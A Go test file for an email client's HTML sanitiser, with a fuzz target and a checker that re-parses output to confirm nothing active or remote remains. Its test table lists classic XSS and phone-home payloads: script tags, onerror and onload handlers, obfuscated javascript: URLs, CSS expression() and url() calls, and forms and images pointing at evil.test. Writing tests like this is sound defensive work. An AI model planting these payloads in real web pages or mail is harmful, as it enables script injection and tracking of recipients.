package inbox

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// Classic XSS and phone-home vectors, each sanitised on its own: what
// must be gone, and what a mail reader must still show.
func TestSanitizeVectors(t *testing.T) {
	for _, c := range []struct {
		in        string
		gone      []string
		kept      []string
		remoteImg int
	}{
		{`<script>alert(1)</script>hi`, []string{"<script", "alert"}, []string{"hi"}, 0},
		{`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, []string{"script", "evil"}, nil, 0},
		{`<img src=x onerror=alert(1)>`, []string{"onerror", "alert", "<img"}, nil, 0},
		{`<img src="javascript:alert(1)">`, []string{"javascript"}, nil, 0},
		{`<img src="http://evil.test/p.gif">`, []string{"evil.test"}, []string{`src="remote-image-blocked"`}, 1},
		{`<img src="//evil.test/p.gif"><img src=" HTTPS://evil.test/q">`, []string{"evil.test"}, nil, 2},
		{`<img src="cid:chart.png@x">`, nil, []string{`src="cid/chart.png@x"`}, 0},
		{`<img src="cid:a b/../c">`, []string{"cid/a b/../c"}, []string{`src="cid/a%20b%2F..%2Fc"`}, 0},
		{`<img src="data:image/png;base64,AAAA">`, nil, []string{`src="data:image/png;base64,AAAA"`}, 0},
		{`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, []string{"svg", "onload"}, nil, 0},
		{`<a href="javascript:alert(1)">x</a>`, []string{"javascript"}, []string{"<a>x</a>"}, 0},
		{`<a href="  JaVaScRiPt:alert(1)">x</a>`, []string{"alert"}, nil, 0},
		{`<a href="java&#x09;script:alert(1)">x</a>`, []string{"alert", "script"}, nil, 0},
		{`<a href="data:text/html,<script>alert(1)</script>">x</a>`, []string{"data:", "script"}, nil, 0},
		{`<a href="vbscript:msgbox(1)">x</a>`, []string{"vbscript"}, nil, 0},
		{`<a href="/relative">x</a>`, []string{"relative"}, nil, 0},
		{`<a href="https://ok.test/a?b=1&c=2">x</a>`, nil, []string{`href="https://ok.test/a?b=1&amp;c=2"`, `rel="nofollow noreferrer noopener"`, `target="_blank"`}, 0},
		{`<a href="mailto:bob@x.test">mail</a>`, nil, []string{`href="mailto:bob@x.test"`}, 0},
		{`<meta http-equiv="refresh" content="0;url=http://evil.test">`, []string{"meta", "refresh", "evil"}, nil, 0},
		{`<base href="http://evil.test/">`, []string{"base", "evil"}, nil, 0},
		{`<link rel=stylesheet href="http://evil.test/s.css">`, []string{"link", "evil"}, nil, 0},
		{`<style>@import url(http://evil.test/i.css)</style>x`, []string{"style", "import", "evil"}, []string{"x"}, 0},
		{`<div style="background:url(http://evil.test/b)">x</div>`, []string{"url(", "evil", "style"}, []string{"<div>x</div>"}, 0},
		{`<div style="color: red; background-image: url(//evil.test/b)">x</div>`, []string{"url(", "evil"}, []string{`style="color: red"`}, 0},
		{`<div style="width: expression(alert(1))">x</div>`, []string{"expression", "alert"}, nil, 0},
		{`<div style="color: re\64">x</div>`, []string{`\64`}, nil, 0},
		{`<div style="color: red /* x */">x</div>`, []string{"/*"}, nil, 0},
		{`<div style="color: rgb(255, 0, 0); font-family: 'Microsoft YaHei', sans-serif">x</div>`, nil, []string{`color: rgb(255, 0, 0)`, `font-family: &#39;Microsoft YaHei&#39;, sans-serif`}, 0},
		{`<div style="color: rgburl(http://evil.test/)">x</div>`, []string{"evil"}, nil, 0},
		{`<iframe src="http://evil.test"></iframe><iframe srcdoc="<script>x</script>"></iframe>`, []string{"iframe", "srcdoc", "evil"}, nil, 0},
		{`<object data="http://evil.test/o"></object><embed src="http://evil.test/e">`, []string{"object", "embed", "evil"}, nil, 0},
		{`<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>`, []string{"svg", "alert", "script"}, nil, 0},
		{`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, []string{"math", "javascript"}, nil, 0},
		{`<form action="http://evil.test"><input name=p value=secret><button>go</button>ok</form>`, []string{"form", "input", "evil", "button", "secret"}, []string{"ok"}, 0},
		{`<body onload="alert(1)"><p>x</p></body>`, []string{"onload", "alert"}, []string{"<p>x</p>"}, 0},
		{`<p onclick="alert(1)" ONMOUSEOVER="alert(2)" title="t">x</p>`, []string{"onclick", "onmouseover", "alert"}, []string{`<p title="t">x</p>`}, 0},
		{`<table bgcolor="#fff" cellpadding="4"><tr><td colspan="2" background="http://evil.test/bg">x</td></tr></table>`, []string{"background=", "evil"}, []string{`bgcolor="#fff"`, `colspan="2"`}, 0},
		{`<td width="javascript:alert(1)">x</td>`, []string{"javascript"}, nil, 0},
		{`<p id="a&quot;onmouseover=alert(1)">x</p>`, []string{"onmouseover", "alert"}, nil, 0},
		{`<!--[if gte mso 9]><img src="http://evil.test/ie"><![endif]-->x`, []string{"evil", "<!--"}, []string{"x"}, 0},
		{`<noscript><img src="http://evil.test/n"></noscript>x`, []string{"evil", "noscript"}, []string{"x"}, 0},
		{`<p>&lt;script&gt;alert(1)&lt;/script&gt; 中文 <b>粗</b></p>`, []string{"<script"}, []string{"&lt;script&gt;", "中文", "<b>粗</b>"}, 0},
		{`<o:p>kept text</o:p><custom-el onclick="x">y</custom-el>`, []string{"o:p", "custom", "onclick"}, []string{"kept text", "y"}, 0},
		{`<xmp><script>alert(1)</script></xmp><plaintext><script>`, []string{"script", "xmp", "plaintext"}, nil, 0},
		{`<template><img src=x onerror=alert(1)></template>`, []string{"onerror", "template"}, nil, 0},
		{`<a href="http://ok.test/" target="_top" rel="opener">x</a>`, []string{"_top", `"opener"`}, []string{`target="_blank"`}, 0},
	} {
		out, remote := sanitizeHTML(c.in)
		low := strings.ToLower(out)
		for _, g := range c.gone {
			if strings.Contains(low, strings.ToLower(g)) {
				t.Errorf("sanitizeHTML(%q) = %q: still has %q", c.in, out, g)
			}
		}
		for _, k := range c.kept {
			if !strings.Contains(out, k) {
				t.Errorf("sanitizeHTML(%q) = %q: lost %q", c.in, out, k)
			}
		}
		if remote != c.remoteImg {
			t.Errorf("sanitizeHTML(%q): %d remote images counted, want %d", c.in, remote, c.remoteImg)
		}
		checkSafe(t, c.in, out)
	}
}

// checkSafe re-parses sanitised output as a browser would and fails on
// anything active or remote in it.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("output does not parse: %v", err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "html", "head", "body":
			default:
				if n.Namespace != "" || !allowedElements[n.DataAtom] {
					t.Fatalf("sanitizeHTML(%q) = %q: element <%s> survives", in, out, n.Data)
				}
			}
			for _, a := range n.Attr {
				k := strings.ToLower(a.Key)
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(k, "on"), k == "srcdoc", k == "formaction", k == "background", k == "action":
					t.Fatalf("sanitizeHTML(%q) = %q: attribute %s survives", in, out, a.Key)
				case k == "href" && !(strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "mailto:")):
					t.Fatalf("sanitizeHTML(%q) = %q: href %q survives", in, out, a.Val)
				case k == "src" && !(strings.HasPrefix(v, "cid/") || strings.HasPrefix(v, "data:image/") || v == "remote-image-blocked"):
					t.Fatalf("sanitizeHTML(%q) = %q: src %q survives", in, out, a.Val)
				case k == "src" && strings.HasPrefix(v, "cid/") && strings.ContainsAny(v[4:], "/?#"):
					t.Fatalf("sanitizeHTML(%q) = %q: a cid source leaves its folder: %q", in, out, a.Val)
				case k == "style":
					for _, decl := range strings.Split(v, ";") {
						_, val, _ := strings.Cut(decl, ":")
						if strings.Contains(val, "url") || strings.Contains(val, "expression") || strings.ContainsAny(val, `\/:@<`) {
							t.Fatalf("sanitizeHTML(%q) = %q: style %q survives", in, out, a.Val)
						}
					}
				}
			}
		}
		if n.Type == html.CommentNode && n.Parent != nil && n.Parent.Type != html.DocumentNode {
			t.Fatalf("sanitizeHTML(%q) = %q: a comment survives", in, out)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

// FuzzSanitize: whatever the input, the output re-parsed by a browser's
// algorithm holds nothing active or remote, and sanitising it again
// changes nothing (it is already in the allowed form).
func FuzzSanitize(f *testing.F) {
	f.Add(hostileHTML)
	for _, s := range []string{`<p style="color:red">x</p>`, `<a href="http://x.test/">x</a>`, `<img src="cid:a">`, `<table><tr><td>1</td></tr></table>`,
		`<svg><p>x</p></svg>`, `<select><option><img src=x onerror=1>`, `<div style="font-family: 'a;b'">x</div>`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out, _ := sanitizeHTML(in)
		checkSafe(t, in, out)
		again, remote := sanitizeHTML(out)
		if remote != 0 {
			t.Fatalf("sanitised output %q still counts %d remote images", out, remote)
		}
		if strings.TrimSpace(again) != strings.TrimSpace(out) { // the parser drops whitespace before <body>
			t.Fatalf("sanitising twice changes the output:\n in: %q\n 1st: %q\n 2nd: %q", in, out, again)
		}
	})
}
